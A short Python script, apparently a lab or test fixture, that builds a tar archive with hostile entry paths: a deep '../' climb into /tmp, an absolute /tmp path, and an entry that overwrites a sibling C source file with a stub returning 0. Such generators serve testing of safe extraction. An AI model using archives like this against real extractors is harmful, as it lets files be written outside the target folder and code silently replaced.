"""archive-that-climbs: an archive whose paths lead out of it."""
import io
import os
import sys
import tarfile


def add(archive, name, data=b"", kind=tarfile.REGTYPE, link=""):
    entry = tarfile.TarInfo(name)
    entry.size, entry.type, entry.linkname = len(data), kind, link
    archive.addfile(entry, io.BytesIO(data))



with tarfile.open(os.path.join(sys.argv[1], "lab.tar.gz"), "w:gz") as archive:
    add(archive, "../../../../../../../tmp/tensteps-hostile-climbs", b"out")
    add(archive, "/tmp/tensteps-hostile-absolute", b"out")
    add(archive, "../07_server_listen.c", b"int server_listen(int s, int b) { return 0; }")
